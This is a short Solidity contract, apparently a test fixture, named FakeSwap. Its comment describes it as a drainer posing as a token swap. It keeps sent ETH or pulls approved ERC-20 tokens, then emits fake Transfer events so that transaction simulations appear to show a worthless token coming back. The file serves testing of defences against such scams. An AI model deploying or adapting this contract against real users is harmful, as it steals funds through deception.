// SPDX-License-Identifier: MIT
pragma solidity 0.8.28;

/// A drainer dressed up as a swap: it keeps the ETH (or pulls approved ERC-20s) and "returns"
/// a worthless token by emitting Transfer events of itself, so a simulation shows something
/// coming back. Test-only (issue 9, class 6).
interface IERC20Pull {
    function transferFrom(address from, address to, uint256 value) external returns (bool);
}

contract FakeSwap {
    event Transfer(address indexed from, address indexed to, uint256 value);

    mapping(address => uint256) public balanceOf;

    function swap() external payable {
        balanceOf[msg.sender] += 1_000_000 ether;
        emit Transfer(address(0), msg.sender, 1_000_000 ether);
    }

    function swapToken(address token, uint256 amount) external {
        IERC20Pull(token).transferFrom(msg.sender, address(this), amount);
        balanceOf[msg.sender] += 1_000_000 ether;
        emit Transfer(address(0), msg.sender, 1_000_000 ether);
    }
}
